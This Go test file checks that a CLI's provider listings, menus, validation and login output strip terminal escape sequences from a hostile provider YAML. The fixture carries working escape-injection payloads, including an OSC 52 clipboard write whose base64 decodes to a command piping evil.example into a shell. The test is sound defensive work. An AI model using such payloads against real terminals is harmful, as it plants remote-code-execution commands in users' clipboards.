package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/terok-ai/terok-auth/core/termtext"
)

// TestProviderTextNeverReachesTheTerminalRaw: a provider file whose label,
// description and key prompt carry OSC 52 (a clipboard write), OSC 0 (the
// window title) and CSI 2J (clear the screen). Whatever terok prints about
// it, in the listing, the menu, validate or a login, holds none of them.
func TestProviderTextNeverReachesTheTerminalRaw(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "evil.yaml")
	yaml := "name: evil\n" +
		"label: \"Evil\\e]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\a\"\n" +
		"description: \"two\\e]0;pwned\\e\\\\ lines\\e[2J\"\n" +
		"modes: [api_key]\n" +
		"api_key_hint: \"\\e[2JPaste\\u009b31m\"\n" +
		"key:\n  label: \"Key\\e[8m\"\n  url: \"https://evil.example/\\e]8;;https://evil.example\\a\"\n"
	if err := os.WriteFile(file, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	env := isolated(t, "TEROK_PROVIDERS_PATH", dir)
	for _, args := range [][]string{
		{"auth", "providers"},
		{"auth", "providers", "--all"},
		{"auth", "providers", "--json"},
		{"auth", "providers", "validate", file},
		{"auth", "login", "evil", "--with-key"},
		{"auth", "status"},
		{"auth", "doctor"},
	} {
		_, out, errOut := run(t, env, args...)
		for what, s := range map[string]string{"stdout": out, "stderr": errOut} {
			if err := termtext.Check(s, true); err != nil {
				t.Errorf("%s: %s has %v:\n%q", strings.Join(args, " "), what, err, s)
			}
		}
	}
}
